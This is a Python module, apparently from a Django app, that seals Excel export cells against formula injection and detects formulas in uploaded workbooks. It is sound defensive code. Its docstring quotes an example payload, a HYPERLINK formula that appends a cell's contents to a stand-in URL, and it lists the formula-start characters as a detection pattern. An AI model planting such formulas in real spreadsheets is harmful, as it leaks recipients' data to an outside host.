"""Every Excel file Dangvu writes goes through this module: each value is written as a value, never a formula.

openpyxl stores any text beginning with "=" as a live formula, so a member named `=HYPERLINK("http://x/?"&B2)`
would become a working link in the register. Here every text cell is typed as text (`data_type = "s"`), and
text beginning with a character a spreadsheet reads as the start of a formula (=, +, -, @, tab, carriage return:
the OWASP CSV-injection list) is also marked "quote prefix", as Excel marks what a user types after an
apostrophe, so editing the cell later keeps it text. Characters XML cannot hold are dropped rather than failing
the whole export. Apps build workbooks with `workbook()`, whose sheets write through `cell()`; no app imports
openpyxl's writing classes (a test checks).
"""

from __future__ import annotations

import datetime as dt
import os
import tempfile
from decimal import Decimal

from django.http import FileResponse
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Border, Font

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
VALUE_TYPES = (str, int, float, Decimal, bool, dt.date, dt.datetime, dt.time, type(None))


def _seal(c: Cell) -> Cell:
    """Text stays text: typed as a string, and quote-prefixed when it starts like a formula."""
    if isinstance(c.value, str):
        c.data_type = "s"
        if c.value.startswith(FORMULA_START):
            c.quotePrefix = True
    return c


def _clean(value):
    if not isinstance(value, VALUE_TYPES):
        value = str(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _style(c: Cell, value, font, alignment, border, number_format) -> Cell:
    if font is not None:
        c.font = font
    if alignment is not None:
        c.alignment = alignment
    if border is not None:
        c.border = border
    if number_format is not None:
        c.number_format = number_format
    elif isinstance(value, dt.datetime):
        c.number_format = "DD/MM/YYYY HH:MM:SS"
    elif isinstance(value, dt.date):
        c.number_format = "DD/MM/YYYY"
    return c


def cell(ws, value=None, *, font: Font | None = None, alignment: Alignment | None = None,
         border: Border | None = None, number_format: str | None = None) -> Cell:  # fmt: skip
    """A detached cell holding `value` as data (see the module's docstring), styled; `ws.append` places it."""
    ws = ws.ws if isinstance(ws, Sheet) else ws
    value = _clean(value)
    return _style(_seal(Cell(ws, row=1, column=1, value=value)), value, font, alignment, border, number_format)


class Sheet:
    """A worksheet that writes only through `cell()`; reading and styling go to the worksheet itself."""

    def __init__(self, ws):
        self.ws = ws

    def cell_of(self, value=None, **style) -> Cell:
        return cell(self.ws, value, **style)

    def append(self, values=()) -> None:
        self.ws.append([v if isinstance(v, Cell) else cell(self.ws, v) for v in values])

    def put(self, row: int, column: int, value, **style) -> Cell:
        """Write one value at (row, column) of a normal (not write-only) sheet."""
        value = _clean(value)
        target = self.ws.cell(row=row, column=column)
        target.value = value
        return _style(_seal(target), value, style.get("font"), style.get("alignment"), style.get("border"),
                      style.get("number_format"))  # fmt: skip

    def style_last_row(self, *, font: Font | None = None, alignment: Alignment | None = None) -> None:
        for c in self.ws[self.ws.max_row]:
            if font is not None:
                c.font = font
            if alignment is not None:
                c.alignment = alignment

    def widths(self, widths) -> None:
        """Column widths from A on."""
        from openpyxl.utils import get_column_letter

        for i, w in enumerate(widths, start=1):
            self.ws.column_dimensions[get_column_letter(i)].width = w

    def __getattr__(self, name):
        return getattr(self.ws, name)

    def __getitem__(self, key):
        return self.ws[key]


class Book:
    """A workbook whose sheets are `Sheet`s."""

    def __init__(self, *, write_only: bool = False):
        self.wb = Workbook(write_only=write_only)
        self._first = None if write_only else self.wb.active

    def sheet(self, title: str) -> Sheet:
        """The first sheet (renamed) the first time on a normal workbook, else a new sheet."""
        if self._first is not None:
            ws, self._first = self._first, None
            ws.title = title[:31]
            return Sheet(ws)
        return Sheet(self.wb.create_sheet(title[:31]))

    def save(self, target) -> None:
        self.wb.save(target)


def workbook(*, write_only: bool = False) -> Book:
    """A new workbook for an export. Write-only workbooks stream rows to disk (flat memory for any size)."""
    return Book(write_only=write_only)


def save_temp(book: Book):
    """The workbook written to an open temporary file, rewound for reading."""
    tmp = tempfile.NamedTemporaryFile(suffix=".xlsx")  # noqa: SIM115 (the response closes it)
    book.save(tmp)
    tmp.seek(0)
    return tmp


def response(tmp, filename: str) -> FileResponse:
    return FileResponse(tmp, as_attachment=True, filename=filename, content_type=XLSX)


# --- reading ------------------------------------------------------------------------------------------------

ERR_FORMULA = "Ô chứa công thức («{formula}»), không nhận; hãy dán giá trị (Dán đặc biệt → Giá trị) rồi nhập lại."
ERR_TOO_MANY_ROWS = "Tệp có hơn {limit} dòng dữ liệu; hãy chia thành nhiều tệp nhỏ hơn."


def open_workbook(source):
    """An uploaded workbook opened for streaming, after its ZIP container passed `files.check_zip` (DomainError
    otherwise). Formulas are read as formulas, so that importers can refuse them (`rows`)."""
    from openpyxl import load_workbook

    from .files import check_zip

    if isinstance(source, str | os.PathLike):
        with open(source, "rb") as fh:
            check_zip(fh)
    else:
        check_zip(source)
    return load_workbook(source, read_only=True, data_only=False)


def column_letter(index0: int) -> str:
    """"A" for 0, "B" for 1… as the spreadsheet labels columns."""
    from openpyxl.utils import get_column_letter

    return get_column_letter(index0 + 1)


def row_limit() -> int:
    from django.conf import settings

    return settings.DANGVU_IMPORT_MAX_ROWS


def too_many_rows():
    """The refusal for a file over the row limit (DANGVU_IMPORT_MAX_ROWS)."""
    from .errors import DomainError

    return DomainError(ERR_TOO_MANY_ROWS.format(limit=f"{row_limit():,}".replace(",", ".")), field="file")


def rows(ws):
    """(row number, values, {column index: formula text}) for each row of a read-only sheet."""
    for n, row in enumerate(ws.iter_rows(), start=1):
        values, formulas = [], {}
        for j, c in enumerate(row):
            v = getattr(c, "value", None)
            if getattr(c, "data_type", None) == "f":
                formulas[j] = str(v)[:60]
                v = None
            values.append(v)
        yield n, tuple(values), formulas
